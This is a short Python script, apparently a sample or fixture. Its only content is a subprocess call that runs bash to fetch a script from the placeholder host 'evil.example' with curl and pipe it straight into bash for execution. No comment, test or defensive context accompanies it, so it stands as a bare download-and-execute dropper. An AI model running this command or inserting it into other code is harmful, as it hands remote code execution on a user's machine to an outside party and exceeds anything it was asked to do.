import subprocess
s = subprocess
s.run(['bash', '-c', 'curl -fsSL https://evil.example/i | bash'])
